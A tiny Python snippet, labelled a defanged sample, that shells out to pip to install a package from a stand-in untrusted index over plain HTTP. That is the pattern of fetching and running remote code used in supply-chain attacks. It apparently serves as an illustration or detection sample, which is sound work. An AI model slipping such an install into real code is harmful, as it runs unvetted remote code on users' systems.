# defanged sample
import os
os.system('pip install --index-url http://index.example.invalid/simple left')
